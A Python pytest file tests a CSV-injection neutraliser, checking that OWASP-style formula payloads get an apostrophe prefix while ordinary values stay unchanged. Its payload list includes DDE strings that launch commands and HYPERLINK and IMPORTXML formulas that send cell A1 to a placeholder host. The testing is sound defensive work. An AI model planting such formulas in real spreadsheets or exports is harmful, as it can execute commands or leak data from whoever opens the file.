"""Payloads of OWASP's page on CSV injection and of known attacks: every one becomes inert, nothing else is changed."""

from datetime import date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ml_pipeline.io.spreadsheet_cells import cell, neutralised

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.test?x="&A1,"click")', "+1+1", "+cmd|' /C calc'!A0",
    "-1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\tx",
    " =1+1", "   @SUM(A1)", '"=1+1"', "'=1+1", '" =1+1', "\xa0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\0=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "|calc", "%0A=1+1", '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://example.test",A1),"//a")', " \t =1", '"\t=1', "-5", "+49 170 1",
]  # fmt: skip
HARMLESS = [
    "",
    "UA",
    "UA1545",
    "a=b",
    "x-ray",
    "O'Hare",
    "raises: share, 28 days = 0.3",
    "1.5",
    "ü",
    "日本",
    "5%",
    "a\tb",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_inert(payload: str) -> None:
    made = neutralised(payload)
    assert made == f"'{payload}"
    assert neutralised(made) == f"'{made}", "an apostrophe that was there already protects nothing"


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text: str) -> None:
    assert neutralised(text) == text


@given(st.text())
def test_no_text_begins_like_a_formula_and_none_is_lost(text: str) -> None:
    made = neutralised(text)
    assert made[:1] not in set("=+-@\t\r\n")
    assert made in (text, f"'{text}")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (-5, -5), (-0.25, -0.25), (True, True), (None, None), (Decimal("-1.5"), -1.5), (2**53, 2**53),
        (2**53 + 1, "9007199254740993"), (-(2**60), "'-1152921504606846976"), (float("nan"), "nan"),
        (float("-inf"), "'-inf"), (date(2024, 5, 5), date(2024, 5, 5)), (datetime(2024, 5, 5, 1), datetime(2024, 5, 5, 1)),
        (["=1"], '["=1"]'), ({"a": "=1"}, '{"a": "=1"}'), (b"=1", "3d31"),
    ],
)  # fmt: skip
def test_numbers_stay_numbers_and_the_rest_is_inert_text(value: object, expected: object) -> None:
    made = cell(value)
    assert made == expected
    assert type(made) is type(expected)
